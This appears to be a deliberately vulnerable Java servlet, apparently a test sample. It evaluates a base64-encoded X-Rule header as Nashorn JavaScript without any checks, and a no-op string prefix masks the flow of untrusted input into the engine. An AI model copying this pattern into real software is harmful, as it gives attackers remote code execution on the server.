package rules;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import javax.script.Compilable;
import javax.script.ScriptEngineManager;
import javax.script.ScriptException;
import javax.servlet.ServletException;
import javax.servlet.annotation.WebServlet;
import javax.servlet.http.HttpServlet;
import javax.servlet.http.HttpServletRequest;
import javax.servlet.http.HttpServletResponse;

@WebServlet("/rule")
public class RuleServlet extends HttpServlet {
    private static final String HEAD = "1+1;";

    @Override
    protected void doPost(HttpServletRequest request, HttpServletResponse response)
            throws ServletException, IOException {
        String header = request.getHeader("X-Rule");
        String rule = new String(Base64.getDecoder().decode(header == null ? "" : header), StandardCharsets.UTF_8);
        StringBuilder text = new StringBuilder(HEAD).append(rule);
        String script = text.substring(HEAD.length());
        try {
            Compilable engine = (Compilable) new ScriptEngineManager().getEngineByName("nashorn");
            engine.compile(script).eval();
        } catch (ScriptException e) {
            throw new ServletException("rule", e);
        }
        response.setStatus(204);
    }
}
